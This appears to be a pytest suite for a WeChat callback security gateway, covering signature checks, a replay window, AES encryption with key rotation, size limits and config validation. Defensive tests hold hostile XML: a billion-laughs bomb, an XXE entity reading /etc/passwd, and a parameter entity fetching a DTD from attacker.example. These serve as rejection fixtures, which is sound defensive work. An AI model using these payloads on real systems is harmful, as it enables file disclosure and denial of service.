"""Callback security: signatures, replay window, 安全模式 AES with key rotation, hostile XML.

Pushes are encrypted and replies decrypted with wechatpy's independent implementation, so the two
must agree byte for byte; the official vectors pin both to Tencent's.
"""

from __future__ import annotations

import hashlib
import json
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from wechatpy.crypto import WeChatCrypto

from channels.wechat import security
from channels.wechat.security import MAX_BODY, CallbackSecurity, WeChatKeys, WeChatRejected, parse_fields

VECTORS = json.loads(
    (Path(__file__).resolve().parents[2] / "fixtures/wechat/official_vectors.json").read_text("utf-8")
)
TOKEN = "wenzheng-token"
APP_ID = "wx0123456789abcdef"
KEY = "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG"
PREVIOUS = "kWxPEV2UEDyxWpmPdKC3F4dgPDmOvfKX1HGnEUDS1aR"
NOW = 1_800_000_000
NONCE = "1320562132"
MESSAGE = (
    "<xml><ToUserName><![CDATA[gh_wenzheng]]></ToUserName><FromUserName><![CDATA[oCitizen0001]]>"
    "</FromUserName><CreateTime>1800000000</CreateTime><MsgType><![CDATA[text]]></MsgType>"
    "<Content><![CDATA[路灯坏了]]></Content><MsgId>24000000000000001</MsgId></xml>"
)
BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + ("" if i == 1 else str(i - 1)) + ";") * 10}">' for i in range(1, 10)
    )
    + "]><xml><MsgType>text</MsgType><Content>&lol9;</Content></xml>"
)
XXE = (
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<xml><MsgType>text</MsgType><Content>&xxe;</Content></xml>"
)
PARAMETER_ENTITY = (
    '<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><xml></xml>'
)


def sha1(*parts: str) -> str:
    return hashlib.sha1("".join(sorted(parts)).encode()).hexdigest()


def gateway(**overrides: Any) -> CallbackSecurity:
    values: dict[str, Any] = {"token": TOKEN, "app_id": APP_ID, "encoding_aes_key": KEY}
    values.update(overrides)
    return CallbackSecurity(WeChatKeys(**values), clock=lambda: float(NOW))


def plain_query(timestamp: int = NOW, token: str = TOKEN) -> dict[str, str]:
    stamp = str(timestamp)
    return {"signature": sha1(token, stamp, NONCE), "timestamp": stamp, "nonce": NONCE, "openid": "oC1"}


def encrypted_push(
    xml: str = MESSAGE, *, key: str = KEY, app_id: str = APP_ID, timestamp: int = NOW
) -> tuple[dict[str, str], bytes]:
    """A safe-mode push as WeChat sends it, encrypted by wechatpy."""
    encrypt = parse_fields(WeChatCrypto(TOKEN, key, app_id).encrypt_message(xml, NONCE, str(timestamp)))[
        "Encrypt"
    ]
    return encrypted_query(encrypt, timestamp), envelope_body(encrypt)


def encrypted_query(encrypt: str, timestamp: int = NOW) -> dict[str, str]:
    stamp = str(timestamp)
    return plain_query(timestamp) | {
        "encrypt_type": "aes",
        "msg_signature": sha1(TOKEN, stamp, NONCE, encrypt),
    }


def envelope_body(encrypt: str) -> bytes:
    to_user = "<ToUserName><![CDATA[gh_wenzheng]]></ToUserName>"
    return f"<xml>{to_user}<Encrypt><![CDATA[{encrypt}]]></Encrypt></xml>".encode()


def rejected(status: int, call: Callable[..., object], *args: object) -> WeChatRejected:
    with pytest.raises(WeChatRejected) as caught:
        call(*args)
    assert caught.value.status == status, caught.value.reason
    return caught.value


# Official vectors ---------------------------------------------------------------------------------


def test_the_official_url_verification_vector_verifies() -> None:
    vector = VECTORS["url_verification"]
    keys = WeChatKeys(token=vector["token"], app_id="", replay_window_seconds=0)
    assert CallbackSecurity(keys).verify_url(vector["query"]) == vector["expected_body"]


def official_safe_mode() -> tuple[dict[str, Any], CallbackSecurity, dict[str, str]]:
    vector = VECTORS["safe_mode_message"]
    keys = WeChatKeys(
        token=vector["token"],
        app_id=vector["app_id"],
        encoding_aes_key=vector["encoding_aes_key"],
        replay_window_seconds=0,
    )
    query = dict(vector["query"])
    query["signature"] = sha1(vector["token"], query["timestamp"], query["nonce"])
    return vector, CallbackSecurity(keys), query


def test_the_official_safe_mode_vector_decrypts_exactly() -> None:
    vector, gate, query = official_safe_mode()
    envelope = gate.open(query, vector["body"].encode())
    assert envelope.xml == vector["expected_decrypted"]
    assert envelope.encrypted
    assert envelope.key == vector["encoding_aes_key"]


def test_the_official_vector_in_compat_mode_decrypts_the_same() -> None:
    vector, gate, query = official_safe_mode()
    encrypt = parse_fields(vector["body"])["Encrypt"]
    compat = vector["expected_decrypted"].replace(
        "</xml>", f"<Encrypt><![CDATA[{encrypt}]]></Encrypt>\n</xml>"
    )
    assert gate.open(query, compat.encode()).xml == vector["expected_decrypted"]


def test_the_official_vector_fails_with_a_wrong_nonce_or_app_id() -> None:
    vector, gate, query = official_safe_mode()
    wrong_nonce = query | {"nonce": "1320562133"}
    wrong_nonce["signature"] = sha1(vector["token"], query["timestamp"], "1320562133")
    assert rejected(403, gate.open, wrong_nonce, vector["body"].encode()).reason == "bad msg_signature"
    other = WeChatKeys(
        token=vector["token"],
        app_id="wx0000000000000000",
        encoding_aes_key=vector["encoding_aes_key"],
        replay_window_seconds=0,
    )
    rejected(403, CallbackSecurity(other).open, query, vector["body"].encode())


def test_tencents_java_sample_encrypts_byte_for_byte(monkeypatch: pytest.MonkeyPatch) -> None:
    """Vector (B) of protocols.md §3.3: a fixed random prefix makes the ciphertext deterministic."""
    monkeypatch.setattr(security.secrets, "token_bytes", lambda _n: b"aaaabbbbccccdddd")
    gate = CallbackSecurity(WeChatKeys(token="pamtest", app_id="wxb11529c136998cb6", encoding_aes_key=KEY))
    envelope = security.Envelope("", encrypted=True, key=KEY)
    sealed = parse_fields(gate.seal(envelope, "我是中文abcd123", nonce="1", timestamp=1))
    assert sealed["Encrypt"] == (
        "jn1L23DB+6ELqJ+6bruv21Y6MD7KeIfP82D6gU39rmkgczbWwt5+3bnyg5K55bgVtVzd832WzZGMhkP72vVOfg=="
    )


def test_wechatpys_own_vector_decrypts_and_encrypts(monkeypatch: pytest.MonkeyPatch) -> None:
    """Vector (C) of protocols.md §3.3, both directions."""
    token, timestamp, nonce = "123456", "1411525903", "461056294"
    keys = WeChatKeys(
        token=token, app_id="wx49f0ab532d5d035a", encoding_aes_key=PREVIOUS, replay_window_seconds=0
    )
    gate = CallbackSecurity(keys)
    encrypt = (
        "RgqEoJj5A4EMYlLvWO1F86ioRjZfaex/gePD0gOXTxpsq5Yj4GNglrBb8I2BAJVODGajiFnXBu7mCPatfjsu6IHCrsTyeDXzF6Bv283dGymzxh"
        "6ydJRvZsryDyZbLTE7rhnus50qGPMfp2wASFlzEgMW9z1ef/RD8XzaFYgm7iTdaXpXaG4+BiYyolBug/gYNx410cvkKR2/nPwBiT+P4hIiOAQq"
        "Gp/TywZBtDh1yCF2KOd0gpiMZ5jSw3e29mTvmUHzkVQiMS6td7vXUaWOMZnYZlF3So2SjHnwh4jYFxdgpkHHqIrH/54SNdshoQgWYEvccTKe7F"
        "S709/5t6NMxuGhcUGAPOQipvWTT4dShyqio7mlsl5noTrb++x6En749zCpQVhDpbV6GDnTbcX2e8K9QaNWHp91eBdCRxthuL0="
    )
    query = {
        "signature": sha1(token, timestamp, nonce),
        "timestamp": timestamp,
        "nonce": nonce,
        "encrypt_type": "aes",
        "msg_signature": "74d92dfeb87ba7c714f89d98870ae5eb62dff26d",
    }
    fields = parse_fields(gate.open(query, envelope_body(encrypt)).xml)
    assert (fields["FromUserName"], fields["Content"], fields["MsgId"]) == (
        "messense",
        "test",
        "4363689963896700987",
    )

    monkeypatch.setattr(security.secrets, "token_bytes", lambda _n: b"1234567890123456")
    reply = (
        "<xml>\n<MsgType><![CDATA[text]]></MsgType>\n<Content><![CDATA[test]]></Content>\n"
        "<FromUserName><![CDATA[wx49f0ab532d5d035a]]></FromUserName>\n<ToUserName><![CDATA[messense]]></ToUserName>\n"
        "<AgentID>1</AgentID>\n<CreateTime>1411525903</CreateTime>\n</xml>"
    )
    sealed = parse_fields(gate.seal(security.Envelope("", True, PREVIOUS), reply, nonce, int(timestamp)))
    assert sealed["MsgSignature"] == "407518b7649e86ef23978113f92d27afa9296533"
    assert sealed["Encrypt"] == (
        "9s4gMv99m88kKTh/H8IdkOiMg6bisoy3ypwy9H4hvSPe9nsGaqyw5hhSjdYbcrKk+j3nba4HMOTzHrluLBYqxgNcBqGsL8GqxlhZgURnAtOb"
        "vesEl5nZ+uBE8bviY0LWke8Zy9V/QYKxNV2FqllNXcfmstttyIkMKCCmVbCFM2JTF5wY0nFhHZSjPUL2Q1qvSUCUld+/WIXrx0oyKQmpB6o8"
        "NRrrNrsDf03oxI1p9FxUgMnwKKZeOA/uu+2IEvEBtb7muXsVbwbgX05UPPJvFurDXafG0RQyPR+mf1nDnAtQmmNOuiR5MIkdQ39xn1vWwi1O"
        "5oazPoQJz0nTYjxxEE8kv3kFxtAGVRe3ypD3WeK2XeFYFMNMpatF9XiKzHo3"
    )
    assert (sealed["TimeStamp"], sealed["Nonce"]) == (timestamp, nonce)


# Plaintext and encrypted pushes -----------------------------------------------------------------


def test_a_plaintext_push_opens_as_is_and_its_reply_is_not_sealed() -> None:
    gate = gateway()
    for query in (plain_query(), plain_query() | {"encrypt_type": "raw"}):
        envelope = gate.open(query, MESSAGE.encode())
        assert (envelope.xml, envelope.encrypted, envelope.key) == (MESSAGE, False, "")
        assert gate.seal(envelope, "<xml>reply</xml>") == "<xml>reply</xml>"


def test_an_encrypted_push_opens_and_its_sealed_reply_round_trips() -> None:
    gate = gateway()
    envelope = gate.open(*encrypted_push())
    assert (envelope.xml, envelope.encrypted, envelope.key) == (MESSAGE, True, KEY)

    reply = "<xml><Content><![CDATA[已收到，受理编号 WZ-1]]></Content></xml>"
    sealed = gate.seal(envelope, reply, nonce="42", timestamp=NOW)
    fields = parse_fields(sealed)
    assert set(fields) == {"Encrypt", "MsgSignature", "TimeStamp", "Nonce"}
    assert (fields["TimeStamp"], fields["Nonce"]) == (str(NOW), "42")
    assert fields["MsgSignature"] == sha1(TOKEN, str(NOW), "42", fields["Encrypt"])
    assert (
        WeChatCrypto(TOKEN, KEY, APP_ID).decrypt_message(sealed, fields["MsgSignature"], str(NOW), "42")
        == reply
    )
    query = {
        "signature": sha1(TOKEN, str(NOW), "42"),
        "timestamp": str(NOW),
        "nonce": "42",
        "encrypt_type": "aes",
        "msg_signature": fields["MsgSignature"],
    }
    assert gate.open(query, sealed.encode()).xml == reply


def test_a_sealed_reply_defaults_to_a_fresh_nonce_and_the_clock() -> None:
    gate = gateway()
    envelope = gate.open(*encrypted_push())
    first, second = (parse_fields(gate.seal(envelope, "<xml/>")) for _ in range(2))
    assert first["TimeStamp"] == str(NOW)
    assert first["Nonce"].isdigit()
    assert first["Encrypt"] != second["Encrypt"]


def test_a_push_encrypted_with_the_previous_key_opens_and_is_answered_with_it() -> None:
    gate = gateway(previous_encoding_aes_key=PREVIOUS)
    assert gate.open(*encrypted_push()).key == KEY
    envelope = gate.open(*encrypted_push(key=PREVIOUS))
    assert (envelope.xml, envelope.key) == (MESSAGE, PREVIOUS)

    sealed = gate.seal(envelope, "<xml>reply</xml>", nonce="7", timestamp=NOW)
    signature = parse_fields(sealed)["MsgSignature"]
    assert (
        WeChatCrypto(TOKEN, PREVIOUS, APP_ID).decrypt_message(sealed, signature, str(NOW), "7")
        == "<xml>reply</xml>"
    )
    query = plain_query() | {"nonce": "7", "signature": sha1(TOKEN, str(NOW), "7")}
    query |= {"encrypt_type": "aes", "msg_signature": signature}
    rejected(400, gateway().open, query, sealed.encode())


def test_a_push_for_another_app_id_is_forbidden() -> None:
    assert rejected(403, gateway().open, *encrypted_push(app_id="wx9999999999999999")).reason == (
        "message is for another AppId"
    )
    rotated = gateway(previous_encoding_aes_key=PREVIOUS)
    rejected(403, rotated.open, *encrypted_push(app_id="wx9999999999999999"))


def test_a_push_under_an_unknown_key_is_refused() -> None:
    rejected(400, gateway().open, *encrypted_push(key=PREVIOUS))


def test_an_encrypted_push_without_a_configured_key_is_refused() -> None:
    rejected(400, gateway(encoding_aes_key="").open, *encrypted_push())


# Signatures, replay, size -----------------------------------------------------------------------


def test_msg_signature_is_checked_before_decrypting() -> None:
    query, body = encrypted_push()
    bad = query | {"msg_signature": sha1("forged")}
    assert rejected(403, gateway().open, bad, body).reason == "bad msg_signature"

    garbage = "bm90IGEgd2VjaGF0IG1lc3NhZ2UgYXQgYWxs"
    rejected(400, gateway().open, encrypted_query(garbage), envelope_body(garbage))
    rejected(
        403, gateway().open, encrypted_query(garbage) | {"msg_signature": sha1("x")}, envelope_body(garbage)
    )
    rejected(400, gateway().open, query | {"msg_signature": ""}, body)


def test_the_classic_signature_is_checked_on_every_push() -> None:
    query, body = encrypted_push()
    for bad in ({"signature": sha1("forged")}, {"signature": "É" * 40}, {"nonce": "1"}):
        assert rejected(403, gateway().open, query | bad, body).reason == "bad signature"
    rejected(403, gateway().open, plain_query(token="other"), MESSAGE.encode())


@pytest.mark.parametrize("missing", ["signature", "timestamp", "nonce"])
def test_missing_parameters_are_bad_requests(missing: str) -> None:
    query = plain_query() | {"echostr": "123"}
    del query[missing]
    rejected(400, gateway().verify_url, query)
    rejected(400, gateway().open, query, MESSAGE.encode())


def test_url_verification_answers_the_echostr_only_when_signed() -> None:
    gate = gateway()
    assert gate.verify_url(plain_query() | {"echostr": "4375120948345356249"}) == "4375120948345356249"
    rejected(400, gate.verify_url, plain_query())
    rejected(403, gate.verify_url, plain_query(token="other") | {"echostr": "1"})
    rejected(400, gate.verify_url, plain_query() | {"timestamp": "１８００", "echostr": "1"})


def test_timestamps_outside_the_replay_window_are_forbidden() -> None:
    gate = gateway()
    for inside in (NOW - 300, NOW + 300):
        gate.verify_url(plain_query(inside) | {"echostr": "1"})
        gate.open(*encrypted_push(timestamp=inside))
    for outside in (NOW - 301, NOW + 301):
        assert rejected(403, gate.verify_url, plain_query(outside) | {"echostr": "1"}).reason == (
            "timestamp outside the replay window"
        )
        rejected(403, gate.open, *encrypted_push(timestamp=outside))
    gateway(replay_window_seconds=0).open(*encrypted_push(timestamp=1_400_000_000))


def test_a_body_over_64_kib_is_too_large() -> None:
    padding = "<Pad>" + "x" * MAX_BODY + "</Pad>"
    body = MESSAGE.replace("</xml>", padding + "</xml>").encode()
    rejected(413, gateway().open, plain_query(), body)
    rejected(413, gateway().open, {}, body)
    fitting = MESSAGE.replace(
        "</xml>", "<Pad>" + "x" * (MAX_BODY - len(MESSAGE.encode()) - 11) + "</Pad></xml>"
    )
    assert len(fitting.encode()) == MAX_BODY
    assert gateway().open(plain_query(), fitting.encode()).xml == fitting


# Hostile and broken XML -------------------------------------------------------------------------


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY], ids=["bomb", "xxe", "param"])
@pytest.mark.parametrize("where", ["plain", "inside", "envelope"])
def test_entity_payloads_are_refused_fast(payload: str, where: str) -> None:
    gate = gateway()
    if where == "plain":
        query, body = plain_query(), payload.encode()
    elif where == "inside":
        query, body = encrypted_push(payload)
    else:
        query, body = encrypted_query("x"), payload.encode()
    started = time.perf_counter()
    reason = rejected(400, gate.open, query, body).reason
    assert time.perf_counter() - started < 0.05
    assert reason == "XML with a DOCTYPE (entity declarations) refused"


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"not xml",
        b'{"MsgType": "text"}',
        b"<xml><Content>unclosed</xml>",
        b"<xml><Content>&undefined;</Content></xml>",
        b"<root><MsgType>text</MsgType></root>",
        b"<xml></xml><xml></xml>",
        "<xml><Content>中文</Content></xml>".encode("gbk"),
        b"<xml><MsgType>text</MsgType><MsgType>event</MsgType></xml>",
    ],
    ids=["empty", "text", "json", "unclosed", "entity", "root", "two-roots", "gbk", "duplicate"],
)
def test_broken_xml_is_a_bad_request(body: bytes) -> None:
    rejected(400, gateway().open, plain_query(), body)


@pytest.mark.parametrize(
    "encrypt",
    ["not base64!!", "YWJj", "YWJjZA==", "QUFBQUFBQUFBQUFBQUFBQQ", "A" * 64],
    ids=["alphabet", "short", "not-blocks", "unpadded", "garbage-blocks"],
)
def test_bad_ciphertext_is_a_bad_request(encrypt: str) -> None:
    rejected(
        400,
        gateway(previous_encoding_aes_key=PREVIOUS).open,
        encrypted_query(encrypt),
        envelope_body(encrypt),
    )


def test_two_encrypt_fields_are_refused_rather_than_guessed_at() -> None:
    query, body = encrypted_push()
    doubled = body.replace(b"</xml>", b"<Encrypt><![CDATA[YWJj]]></Encrypt></xml>")
    rejected(400, gateway().open, query, doubled)


def test_an_encrypted_push_needs_an_encrypt_field() -> None:
    rejected(400, gateway().open, encrypted_query("x"), MESSAGE.encode())


# Configuration ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"token": ""}, "Token"),
        ({"encoding_aes_key": "short"}, "43 characters"),
        ({"encoding_aes_key": "!" * 43}, "base64"),
        ({"app_id": ""}, "AppId"),
        ({"replay_window_seconds": -1}, "negative"),
    ],
    ids=["no-token", "key-length", "key-alphabet", "no-app-id", "negative-window"],
)
def test_bad_configuration_fails_at_startup(overrides: dict[str, Any], message: str) -> None:
    with pytest.raises(ValueError, match=message):
        gateway(**overrides)


def test_secrets_stay_out_of_reprs() -> None:
    keys = WeChatKeys(token=TOKEN, app_id=APP_ID, encoding_aes_key=KEY, previous_encoding_aes_key=PREVIOUS)
    envelope = gateway().open(*encrypted_push())
    for text in (repr(keys), repr(envelope)):
        assert TOKEN not in text
        assert KEY not in text
        assert PREVIOUS not in text
